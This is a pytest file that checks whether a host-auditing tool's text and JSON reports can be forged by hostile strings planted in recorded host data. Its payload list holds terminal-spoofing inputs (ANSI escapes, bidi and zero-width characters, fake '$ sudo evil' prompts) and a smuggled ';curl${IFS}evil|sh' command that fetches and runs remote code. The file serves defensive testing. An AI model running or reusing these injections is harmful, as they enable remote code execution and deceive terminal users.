"""Reports about recorded hosts whose names were chosen to rule a terminal, or to be pasted."""

from __future__ import annotations

import json
import random
from ipaddress import ip_address
from typing import Any, Iterator

import pytest
from helpers.recorded import host_data, host_names
from helpers.rows import sampled

from envtune.audit import check_host
from envtune.catalog import load
from envtune.job.target import TargetOptions
from envtune.report import to_json
from envtune.report.check_text import render
from envtune.snapshot.host import SnapshotHost
from envtune.trust.characters import is_visible, visible_lines

EVIL = "sudo evil"
PAYLOADS = (
    f"\n$ {EVIL}\n",
    f"\x1b[2J\x1b]0;{EVIL}\x07",
    f"\u202e\u200b{EVIL}\ufeff",
    f"{' x' * 60} $ {EVIL}",  # broken where a line ends
    f";curl${{IFS}}evil|sh;# {EVIL}",
    f"\r$ {EVIL}",
)
FORMAL = (
    "argv",
    "cwd",
    "kind",
    "schema",
    "mode",
    "error",
    "address",
    "cmd",
    "state",
    "taken",
    "path",
    "head",
)  # others are refused outright
HOSTS = 8  # each with every payload in other places
PLACES = 40  # of one host


def is_address(text: str) -> bool:
    try:
        return bool(ip_address(text.partition("/")[0].partition("%")[0]))
    except ValueError:
        return False


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every container with the key below which a text stands."""
    rows = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, member in rows:
        if isinstance(member, str):
            yield value, key
        else:
            yield from places(member)


@pytest.mark.parametrize("seed", sampled(range(HOSTS), 3))
def test_a_recorded_host_writes_no_line_of_the_report(seed: int) -> None:
    rng = random.Random(seed)
    data = host_data(rng.choice(host_names()))
    texts = [row for row in places(data) if row[1] not in FORMAL and not is_address(row[0][row[1]])]
    for container, key in rng.sample(texts, min(PLACES, len(texts))):
        text, payload = container[key], rng.choice(PAYLOADS)
        at = rng.randrange(len(text) + 1)
        container[key] = text[:at] + payload + text[at:]
    report = check_host(SnapshotHost(data), TargetOptions(), load().checks)
    for width in (60, 100):
        page = render(report, "en", width=width, verbose=True)
        assert visible_lines(page) == page
        rows = [row.strip() for row in page.splitlines()]
        assert not [row for row in rows if row.startswith(f"$ {EVIL}")]
        assert not [row for row in rows if row.startswith("$ ") and EVIL in row]
    document = to_json(report)
    assert visible_lines(document) == document and json.loads(document)["findings"]
    assert all(
        is_visible(line) for one in report.findings for line in (c.line for c in one.commands) if isinstance(line, str)
    )
